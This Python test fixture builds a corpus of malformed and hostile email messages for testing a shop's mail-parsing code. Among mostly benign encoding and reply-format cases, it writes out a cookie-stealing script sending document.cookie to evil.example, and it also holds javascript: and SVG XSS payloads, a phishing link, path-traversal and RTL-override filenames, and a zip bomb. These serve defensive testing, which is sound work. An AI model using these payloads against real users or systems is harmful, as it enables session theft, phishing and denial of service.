# ruff: noqa: E501  (a corpus of literal message lines reads better unbroken)
"""The hostile mail corpus (issue 20): raw messages made at test time, by name.

Made here rather than committed: the 30 MB attachment and the 1 MB header blocks
would weigh on the repository, and each message says in code what is wrong with
it. ``CORPUS`` maps a name to a function making the bytes; ``write_eml(folder)``
writes them all as .eml files (for delivering them to a test IMAP server).
Shared by tests/app/test_mail_*.py.
"""

from __future__ import annotations

import base64
import io
import os
import quopri
import zipfile
from collections.abc import Callable
from pathlib import Path

CRLF = b"\r\n"
SHOP = "shop@shop.example"
CUSTOMER = "ivan@customer.example"


def message(headers: str, body: bytes | str, *, charset: str = "utf-8") -> bytes:
    """Headers written as lines (LF), joined with CRLF, then a blank line and the body."""
    head = headers.strip("\n").replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    data = body.encode(charset) if isinstance(body, str) else body
    return head + CRLF + CRLF + data


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", CRLF)


def basic(
    extra: str = "", *, subject: str = "Hello", message_id: str = "<m1@customer.example>"
) -> str:
    headers = f"From: Ivan <{CUSTOMER}>\nTo: Shop <{SHOP}>\nSubject: {subject}\n"
    headers += "Date: Mon, 01 Jan 2024 10:00:00 +0200\nMIME-Version: 1.0\n"
    if message_id:
        headers += f"Message-ID: {message_id}\n"
    return headers + extra


def single(content_type: str, body: bytes | str, extra: str = "", **kw: str) -> bytes:
    return message(basic(f"Content-Type: {content_type}\n{extra}", **kw), body)


def multipart(
    kind: str, parts: list[bytes], boundary: str = "b0undary", extra: str = "", **kw: str
) -> bytes:
    body = b"".join(b"--" + boundary.encode() + CRLF + part + CRLF for part in parts)
    body += b"--" + boundary.encode() + b"--" + CRLF
    head = basic(f'Content-Type: multipart/{kind}; boundary="{boundary}"\n{extra}', **kw)
    return message(head, body)


def part(headers: str, body: bytes | str, charset: str = "utf-8") -> bytes:
    """A MIME part: header lines (LF), a blank line, the body."""
    head = headers.strip("\n").replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    data = body.encode(charset) if isinstance(body, str) else body
    return head + CRLF + CRLF + data


def nested_part(kind: str, parts: list[bytes], boundary: str) -> bytes:
    body = b"".join(b"--" + boundary.encode() + CRLF + p + CRLF for p in parts)
    body += b"--" + boundary.encode() + b"--"
    return part(f'Content-Type: multipart/{kind}; boundary="{boundary}"', body)


def attachment(
    name_params: str, data: bytes, content_type: str = "application/octet-stream"
) -> bytes:
    return part(
        f"Content-Type: {content_type}\nContent-Disposition: attachment; {name_params}\n"
        "Content-Transfer-Encoding: base64",
        b64(data),
    )


RUSSIAN = "Добрый день! Подскажите, пожалуйста, когда будет доставка заказа №5512? Спасибо."
RUSSIAN_KOI8 = RUSSIAN.replace("№", "N")  # koi8 has no numero sign
UKRAINIAN = "Доброго дня! Коли буде доставка замовлення? Ціна вказана з ПДВ? Дякую, Іван."
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def plain_utf8() -> bytes:
    return single("text/plain; charset=utf-8", RUSSIAN + "\r\n")


def html_script() -> bytes:
    html = (
        '<html><head><script>alert("head")</script><style>p{color:red}</style></head>'
        '<body onload="steal()"><p onclick="x()">Hello <b>there</b></p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example">'
        '<input name="password"></form><svg><script>alert(2)</script></svg>'
        '<img src="x" onerror="alert(3)"><object data="x.swf"></object></body></html>'
    )
    return single("text/html; charset=utf-8", html)


def javascript_links() -> bytes:
    html = (
        '<p><a href="javascript:alert(1)">one</a> <a href="JaVaScRiPt:alert(2)">two</a> '
        '<a href="vbscript:msgbox(3)">three</a> <a href="data:text/html;base64,PHNjcmlwdD4=">four</a> '
        '<a href=" javascript:alert(5)">five</a> <a href="https://shop.example/order/5">order</a></p>'
    )
    return single("text/html; charset=utf-8", html)


def deceptive_link() -> bytes:
    html = '<p>Log in: <a href="https://evil.example/login">https://www.paypal.com/signin</a></p>'
    return single("text/html; charset=utf-8", html)


def tracking_pixel() -> bytes:
    html = (
        '<p>Your order</p><img src="https://track.example/open?id=42" width="1" height="1">'
        '<img src="//cdn.example/logo.png"><img src="http://plain.example/p.gif">'
    )
    return single("text/html; charset=utf-8", html)


def css_url_tracking() -> bytes:
    html = (
        "<div style=\"background-image: url('https://track.example/bg.gif'); color: blue\">Hi</div>"
        '<p style="background:url(http://track.example/p2.gif) no-repeat">there</p>'
    )
    return single("text/html; charset=utf-8", html)


def cid_inline_image() -> bytes:
    html = part(
        "Content-Type: text/html; charset=utf-8",
        '<p>Logo: <img src="cid:logo@shop.example"> and a missing one <img src="cid:gone@x"></p>',
    )
    image = part(
        "Content-Type: image/png\nContent-ID: <logo@shop.example>\nContent-Transfer-Encoding: base64",
        b64(PNG),
    )
    return multipart("related", [html, image])


def data_image_inline() -> bytes:
    png = base64.b64encode(PNG).decode()
    html = (
        f'<p><img src="data:image/png;base64,{png}" alt="screenshot">'
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"></p>'
    )
    return single("text/html; charset=utf-8", html)


def header_1mb_many_fields() -> bytes:
    junk = "".join(f"X-Junk-{i}: {'a' * 60}\n" for i in range(20000))
    return message(
        junk + basic("Content-Type: text/plain; charset=utf-8\n", subject="After junk"), "body\r\n"
    )


def header_1mb_single_field() -> bytes:
    folded = "\n ".join("b" * 70 for _ in range(30000))  # one field of ~2 MB, folded
    head = f"X-Huge: {folded}\n" + basic(
        "Content-Type: text/plain; charset=utf-8\n", subject="Huge one"
    )
    return message(head, "still readable\r\n")


def huge_to_header() -> bytes:
    to = ", ".join(f'"User {i}" <u{i}@x.example>' for i in range(60000))
    head = f"From: Ivan <{CUSTOMER}>\nTo: {to}\nSubject: many\nMessage-ID: <many@x>\nContent-Type: text/plain"
    return message(head, "hi\r\n")


def broken_boundary_declared_wrong() -> bytes:
    body = (
        b"--real-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe text.\r\n"
        b"--real-boundary\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment;"
        b' filename="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQ=\r\n'
        b"--real-boundary--\r\n"
    )
    return message(basic('Content-Type: multipart/mixed; boundary="declared-boundary"\n'), body)


def missing_close_boundary() -> bytes:
    body = (
        b"--B\r\nContent-Type: text/plain\r\n\r\nFirst part.\r\n"
        b"--B\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename=list.csv\r\n\r\na,b\r\n1,2\r\n"
    )
    return message(basic('Content-Type: multipart/mixed; boundary="B"\n'), body)


def truncated_base64() -> bytes:
    data = b64(os.urandom(3000))[:1234]  # cut in the middle of a line
    body = b"--B\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--B\r\nContent-Type: image/jpeg\r\n"
    body += b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=p.jpg\r\n\r\n"
    return message(basic('Content-Type: multipart/mixed; boundary="B"\n'), body + data)


def no_boundary_at_all() -> bytes:
    return message(basic("Content-Type: multipart/mixed\n"), "Just text, no parts.\r\n")


def nested_rfc822() -> bytes:
    inner = multipart(
        "mixed",
        [
            part("Content-Type: text/plain", "Inner body"),
            attachment('filename="inner.pdf"', b"%PDF-1.4"),
        ],
        boundary="inner",
        subject="=?utf-8?B?0KHRh9C10YIg4oSWNQ==?=",
        message_id="<inner@bank.example>",
    )
    outer = [
        part("Content-Type: text/plain", "Forwarding the bank's letter."),
        part("Content-Type: message/rfc822\nContent-Disposition: attachment", inner),
    ]
    return multipart("mixed", outer)


def nested_rfc822_base64() -> bytes:
    inner = single("text/plain", "inner text", subject="Encoded inner", message_id="<in2@x>")
    outer = [
        part("Content-Type: text/plain", "See the attached message."),
        part("Content-Type: message/rfc822\nContent-Transfer-Encoding: base64", b64(inner)),
    ]
    return multipart("mixed", outer)


def deep_nesting(levels: int) -> Callable[[], bytes]:
    def make() -> bytes:
        body = b""
        for i in range(levels):
            body += b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
        body += b"--b%d\r\nContent-Type: text/plain\r\n\r\ndeep\r\n" % levels
        for i in range(levels, -1, -1):
            body += b"--b%d--\r\n" % i
        return message(basic('Content-Type: multipart/mixed; boundary="b0"\n'), body)

    return make


def charset_case(
    text: str, encoding: str, label: str | None, transfer: str = "8bit"
) -> Callable[[], bytes]:
    def make() -> bytes:
        data = text.encode(encoding)
        if transfer == "quoted-printable":
            data = quopri.encodestring(data)
        elif transfer == "base64":
            data = b64(data)
        kind = "text/plain" + (f"; charset={label}" if label else "")
        return single(kind, data, f"Content-Transfer-Encoding: {transfer}\n")

    return make


def utf8_mixed_latin1() -> bytes:
    line = "This ü is ö the ä UTF-8 encoded body, with ü very ö important ä stuff.\r\n"
    return single("text/plain; charset=UTF-8", line.encode() + line.encode("latin-1"))


def html_meta_charset() -> bytes:
    html = f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head><body><p>{RUSSIAN}</p></body></html>'
    return single("text/html", html.encode("cp1251"), "Content-Transfer-Encoding: 8bit\n")


def encoded_word_split() -> bytes:
    data = "Заказ №5512 — оплата".encode()
    first, second = base64.b64encode(data[:5]).decode(), base64.b64encode(data[5:]).decode()
    subject = f"=?utf-8?B?{first}?=\n =?utf-8?B?{second}?="
    return single("text/plain", "x", subject=subject)


def _raw(text: str, encoding: str) -> str:
    """``text``'s bytes in ``encoding`` as surrogate escapes: written back as those bytes."""
    return text.encode(encoding).decode("ascii", "surrogateescape")


def raw_8bit_headers() -> bytes:
    name, subject = _raw("Иван Петров", "cp1251"), _raw("Вопрос по заказу", "cp1251")
    head = f"From: {name} <{CUSTOMER}>\nTo: {SHOP}\nSubject: {subject}\nMessage-ID: <8bit@x>\n"
    head += "Content-Type: text/plain; charset=windows-1251\nContent-Transfer-Encoding: 8bit"
    return message(head, RUSSIAN.encode("cp1251"))


def hostile_filename(params: str) -> Callable[[], bytes]:
    def make() -> bytes:
        return multipart(
            "mixed", [part("Content-Type: text/plain", "see attached"), attachment(params, b"data")]
        )

    return make


def raw_8bit_filename() -> bytes:
    params = f'filename="{_raw("Счёт №5.pdf", "cp1251")}"'
    return multipart(
        "mixed", [part("Content-Type: text/plain", "see attached"), attachment(params, b"%PDF")]
    )


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w") as member,
    ):
        chunk = bytes(1 << 20)
        for _ in range(200):  # 200 MB of zeros in a ~200 KB file
            member.write(chunk)
    return multipart(
        "mixed",
        [
            part("Content-Type: text/plain", "Price list attached"),
            attachment('filename="prices.zip"', buffer.getvalue(), "application/zip"),
        ],
    )


def attachment_30mb() -> bytes:
    return multipart(
        "mixed",
        [
            part("Content-Type: text/plain", "The video"),
            attachment('filename="video.mp4"', os.urandom(30 * 1024 * 1024), "video/mp4"),
        ],
    )


def no_message_id() -> bytes:
    return single("text/plain", "no id here", message_id="")


def references_unknown() -> bytes:
    return single(
        "text/plain", "a reply to something we never saw",
        "In-Reply-To: <never-seen@elsewhere.example>\nReferences: <root-never@elsewhere.example>\n <never-seen@elsewhere.example>\n",
        subject="Re: Something",
    )  # fmt: skip


def references_garbage() -> bytes:
    extra = (
        "In-Reply-To: Ivan's message of Mon, 1 Jan 2024 <parent@shop.example> (comment <x@y>)\n"
        "References: garbage <root@shop.example>,<mid\n  dle@shop.example> <> <<bad>> no-brackets@x\n"
        " <parent@shop.example> <unterminated@shop.example\n"
    )
    return single("text/plain", "reply", extra, subject="Re: Order")


OUTLOOK_INDEX = base64.b64encode(bytes(range(22)) + b"\x01\x02\x03\x04\x05").decode()


def outlook_reply() -> bytes:
    text = (
        "Thank you, received.\r\n\r\n________________________________\r\nFrom: Shop <shop@shop.example>\r\n"
        "Sent: Monday, January 1, 2024 10:00 AM\r\nTo: Ivan <ivan@customer.example>\r\nSubject: Your order\r\n\r\n"
        "Your order has shipped.\r\n"
    )
    html = (
        '<div>Thank you, received.</div><hr><div id="divRplyFwdMsg"><b>From:</b> Shop &lt;shop@shop.example&gt;<br>'
        "<b>Sent:</b> Monday, January 1, 2024 10:00 AM<br><b>To:</b> Ivan<br><b>Subject:</b> Your order</div>"
        "<div>Your order has shipped.</div>"
    )
    alternative = [
        part("Content-Type: text/plain; charset=utf-8", text),
        part("Content-Type: text/html; charset=utf-8", html),
    ]
    return multipart(
        "alternative", alternative,
        extra=f"Thread-Topic: Your order\nThread-Index: {OUTLOOK_INDEX}\n",
        subject="RE: Your order", message_id="<outlook-1@customer.example>",
    )  # fmt: skip


def outlook_reply_russian() -> bytes:
    text = (
        "Спасибо, получил.\r\n\r\nОт: Магазин <shop@shop.example>\r\nОтправлено: 1 января 2024 г. 10:00\r\n"
        "Кому: Иван <ivan@customer.example>\r\nТема: Ваш заказ\r\n\r\nВаш заказ отправлен.\r\n"
    )
    return single("text/plain; charset=windows-1251", text.encode("cp1251"), "Content-Transfer-Encoding: 8bit\n",
                  subject=f"=?windows-1251?B?{base64.b64encode('Ответ: Ваш заказ'.encode('cp1251')).decode()}?=")  # fmt: skip


def thunderbird_reply() -> bytes:
    text = (
        "Hello,\r\n\r\nOn 01.01.2024 10:00, Shop wrote:\r\n> Your order has shipped.\r\n>\r\n> Regards\r\n\r\n"
        "Thanks!\r\n\r\n-- \r\nIvan Petrov\r\n+380 50 123 45 67\r\n"
    )
    extra = "In-Reply-To: <sent-1@shop.example>\nReferences: <sent-1@shop.example>\nUser-Agent: Thunderbird\n"
    return single("text/plain; charset=UTF-8; format=flowed", text, extra, subject="Re: Your order")


def gmail_reply() -> bytes:
    text = "Got it, thanks!\r\n\r\nOn Mon, Jan 1, 2024 at 10:00 AM Shop <\r\nshop@shop.example> wrote:\r\n\r\n> Your order has shipped.\r\n"
    html = (
        '<div dir="ltr">Got it, thanks!</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
        "On Mon, Jan 1, 2024 at 10:00 AM Shop &lt;shop@shop.example&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Your order has shipped.</blockquote></div>'
    )
    extra = "In-Reply-To: <sent-1@shop.example>\nReferences: <sent-1@shop.example>\n"
    alternative = [
        part("Content-Type: text/plain; charset=UTF-8", text),
        part("Content-Type: text/html; charset=UTF-8", html),
    ]
    return multipart(
        "alternative",
        alternative,
        extra=extra,
        subject="Re: Your order",
        message_id="<CAgmail@mail.gmail.com>",
    )


def gmail_reply_russian() -> bytes:
    text = "Спасибо!\r\n\r\nпн, 1 янв. 2024 г. в 10:00, Магазин <shop@shop.example>:\r\n\r\n> Ваш заказ отправлен.\r\n"
    extra = "In-Reply-To: <sent-2@shop.example>\nReferences: <sent-2@shop.example>\nContent-Transfer-Encoding: base64\n"
    return single("text/plain; charset=UTF-8", b64(text.encode()), extra, subject="Re: Заказ")


def html_only_gmail_quote() -> bytes:
    html = (
        '<div>Ok, I will wait.</div><div class="gmail_quote"><div class="gmail_attr">On Mon, Jan 1, 2024 Shop wrote:</div>'
        "<blockquote>We ship on Monday.</blockquote></div>"
    )
    return single("text/html; charset=utf-8", html, subject="Re: Shipping")


def dsn(action: str = "failed", status: str = "5.1.1") -> Callable[[], bytes]:
    def make() -> bytes:
        report = part(
            "Content-Type: text/plain",
            "This is the mail system. Your message could not be delivered.",
        )
        fields = (
            "Reporting-MTA: dns; mx.customer.example\r\nArrival-Date: Mon, 1 Jan 2024 10:00:00 +0000\r\n\r\n"
            f"Final-Recipient: rfc822; nobody@customer.example\r\nOriginal-Recipient: rfc822;nobody@customer.example\r\n"
            f"Action: {action}\r\nStatus: {status}\r\n"
            "Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.example>: Recipient address\r\n rejected: User unknown\r\n"
        )
        status_part = part("Content-Type: message/delivery-status", fields)
        original = part(
            "Content-Type: text/rfc822-headers",
            "Message-ID: <sent-9@shop.example>\r\nSubject: Your order\r\n",
        )
        head = (
            "From: Mail Delivery System <MAILER-DAEMON@mx.customer.example>\nTo: shop@shop.example\n"
            "Subject: Undelivered Mail Returned to Sender\nMessage-ID: <dsn1@mx.customer.example>\n"
            "Auto-Submitted: auto-replied\n"
            'Content-Type: multipart/report; report-type=delivery-status; boundary="R"'
        )
        body = (
            b"".join(b"--R\r\n" + p + CRLF for p in (report, status_part, original)) + b"--R--\r\n"
        )
        return message(head, body)

    return make


def postmaster_bounce_without_report() -> bytes:
    head = (
        "From: postmaster@mx.customer.example\nTo: shop@shop.example\nSubject: Delivery has failed to these recipients\n"
        "Message-ID: <ndr@mx>\nContent-Type: text/plain"
    )
    return message(head, "Your message to nobody@customer.example couldn't be delivered.\r\n")


def vacation_auto_submitted() -> bytes:
    return single(
        "text/plain; charset=utf-8", "I am on vacation until Monday.",
        "Auto-Submitted: auto-replied\nIn-Reply-To: <sent-1@shop.example>\n", subject="Out of Office: Your order",
    )  # fmt: skip


def vacation_subject(subject: str) -> Callable[[], bytes]:
    def make() -> bytes:
        return single("text/plain; charset=utf-8", "Я в отпуске до понедельника.", subject=subject)

    return make


def newsletter() -> bytes:
    extra = (
        "List-Id: Shop news <news.shop.example>\nList-Unsubscribe: <https://news.example/u?x=1>, <mailto:u@news.example>\n"
        "Precedence: bulk\n"
    )
    html = '<p>Sale!</p><img src="https://news.example/open.gif?u=42" width="1" height="1">'
    return single("text/html; charset=utf-8", html, extra, subject="Big sale")


def read_receipt() -> bytes:
    head = basic(
        'Content-Type: multipart/report; report-type=disposition-notification; boundary="R"\n',
        subject="Read: Your order",
    )
    body = b"--R\r\nContent-Type: text/plain\r\n\r\nYour message was read.\r\n--R\r\nContent-Type: message/disposition-notification\r\n\r\nFinal-Recipient: rfc822;ivan@customer.example\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n--R--\r\n"
    return message(head, body)


def date_missing() -> bytes:
    return message(
        f"From: {CUSTOMER}\nTo: {SHOP}\nSubject: no date\nMessage-ID: <nodate@x>", "x\r\n"
    )


def date_garbage() -> bytes:
    return message(
        f"From: {CUSTOMER}\nTo: {SHOP}\nSubject: bad date\nDate: yesterday-ish, 99 Foo 20x4\nMessage-ID: <baddate@x>",
        "x\r\n",
    )


def apple_mail_inline() -> bytes:
    parts = [
        part("Content-Type: text/plain; charset=us-ascii", "Here is the photo:"),
        part(
            "Content-Type: image/png; name=photo.png\nContent-Disposition: inline; filename=photo.png\nContent-Transfer-Encoding: base64",
            b64(PNG),
        ),
        part("Content-Type: text/plain; charset=us-ascii", "Is it broken?"),
    ]
    return multipart("mixed", parts)


def headers_only() -> bytes:
    return f"From: {CUSTOMER}\r\nSubject: empty\r\nMessage-ID: <empty@x>\r\n".encode()


def binary_garbage() -> bytes:
    return bytes(range(256)) * 40


def signature_and_forward() -> bytes:
    text = (
        "Please look at this.\r\n\r\n---------- Forwarded message ---------\r\nFrom: Bank <bank@bank.example>\r\n"
        "Subject: Payment\r\n\r\nPayment received.\r\n"
    )
    return single("text/plain; charset=utf-8", text, subject="Fwd: Payment")


def quoted_printable_cp1251() -> bytes:
    return charset_case(RUSSIAN * 3, "cp1251", "windows-1251", "quoted-printable")()


def content_type_garbage() -> bytes:
    return single('text/plain; charset="; boundary=; ===?', "odd header, readable body")


def many_parts() -> bytes:
    return multipart("mixed", [part("Content-Type: text/plain", f"part {i}") for i in range(1200)])


def invalid_base64_text() -> bytes:
    return single(
        "text/plain; charset=utf-8",
        b"!!!not base64 at all***\r\n",
        "Content-Transfer-Encoding: base64\n",
    )


def utf16_body() -> bytes:
    return single(
        "text/plain; charset=utf-16",
        "Привет".encode("utf-16"),
        "Content-Transfer-Encoding: binary\n",
    )


CORPUS: dict[str, Callable[[], bytes]] = {
    "plain_utf8": plain_utf8,
    "html_script": html_script,
    "javascript_links": javascript_links,
    "deceptive_link": deceptive_link,
    "tracking_pixel": tracking_pixel,
    "css_url_tracking": css_url_tracking,
    "cid_inline_image": cid_inline_image,
    "data_image_inline": data_image_inline,
    "header_1mb_many_fields": header_1mb_many_fields,
    "header_1mb_single_field": header_1mb_single_field,
    "huge_to_header": huge_to_header,
    "broken_boundary_declared_wrong": broken_boundary_declared_wrong,
    "missing_close_boundary": missing_close_boundary,
    "truncated_base64": truncated_base64,
    "no_boundary_at_all": no_boundary_at_all,
    "nested_rfc822": nested_rfc822,
    "nested_rfc822_base64": nested_rfc822_base64,
    "deep_nesting_40": deep_nesting(40),
    "deep_nesting_3000": deep_nesting(3000),
    "cp1251_labelled_koi8r": charset_case(RUSSIAN, "cp1251", "koi8-r"),
    "cp1251_labelled_iso88591": charset_case(RUSSIAN, "cp1251", "iso-8859-1"),
    "cp1251_no_label": charset_case(RUSSIAN, "cp1251", None),
    "koi8r_no_label": charset_case(RUSSIAN_KOI8, "koi8-r", None),
    "koi8u_labelled_cp1251": charset_case(UKRAINIAN, "koi8-u", "windows-1251"),
    "cp1251_ukrainian_labelled_koi8u": charset_case(UKRAINIAN, "cp1251", "koi8-u"),
    "utf8_labelled_cp1251": charset_case(RUSSIAN, "utf-8", "windows-1251", "base64"),
    "utf8_correct": charset_case(UKRAINIAN, "utf-8", "utf-8", "quoted-printable"),
    "unknown_charset_label": charset_case(RUSSIAN, "cp1251", "x-unknown-8bit"),
    "utf8_mixed_latin1": utf8_mixed_latin1,
    "html_meta_charset": html_meta_charset,
    "quoted_printable_cp1251": quoted_printable_cp1251,
    "encoded_word_split": encoded_word_split,
    "raw_8bit_headers": raw_8bit_headers,
    "filename_path_traversal": hostile_filename('filename="../../etc/passwd"'),
    "filename_windows_path": hostile_filename('filename="..\\\\..\\\\Windows\\\\system.ini"'),
    "filename_nul": hostile_filename("filename*=utf-8''invoice%00.exe"),
    "filename_rtl_override": hostile_filename("filename*=utf-8''invoice%E2%80%AEfdp.exe"),
    "filename_300_chars": hostile_filename(f'filename="{"ф" * 300}.pdf"'),
    "filename_reserved": hostile_filename('filename="CON.txt"'),
    "filename_rfc2231_continuation": hostile_filename(
        "filename*0*=koi8-r''%F3%DE%C5%D4; filename*1*=%20N%35.pdf"
    ),
    "filename_encoded_word": hostile_filename('filename="=?utf-8?B?0KHRh9C10YIg4oSWNS5wZGY=?="'),
    "filename_raw_8bit": raw_8bit_filename,
    "zip_bomb": zip_bomb,
    "attachment_30mb": attachment_30mb,
    "no_message_id": no_message_id,
    "references_unknown": references_unknown,
    "references_garbage": references_garbage,
    "outlook_reply": outlook_reply,
    "outlook_reply_russian": outlook_reply_russian,
    "thunderbird_reply": thunderbird_reply,
    "gmail_reply": gmail_reply,
    "gmail_reply_russian": gmail_reply_russian,
    "html_only_gmail_quote": html_only_gmail_quote,
    "dsn_failed": dsn(),
    "dsn_delayed": dsn("delayed", "4.4.1"),
    "postmaster_bounce_without_report": postmaster_bounce_without_report,
    "vacation_auto_submitted": vacation_auto_submitted,
    "vacation_subject_russian": vacation_subject("Автоответ: Re: Заказ"),
    "vacation_subject_ukrainian": vacation_subject("Автоматична відповідь: Замовлення"),
    "newsletter": newsletter,
    "read_receipt": read_receipt,
    "date_missing": date_missing,
    "date_garbage": date_garbage,
    "apple_mail_inline": apple_mail_inline,
    "headers_only": headers_only,
    "binary_garbage": binary_garbage,
    "signature_and_forward": signature_and_forward,
    "content_type_garbage": content_type_garbage,
    "many_parts": many_parts,
    "invalid_base64_text": invalid_base64_text,
    "utf16_body": utf16_body,
}
LARGE = {
    "attachment_30mb",
    "header_1mb_many_fields",
    "header_1mb_single_field",
    "huge_to_header",
    "zip_bomb",
    "deep_nesting_3000",
}


def write_eml(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in CORPUS.items():
        path = folder / f"{name}.eml"
        path.write_bytes(make())
        written.append(path)
    return written
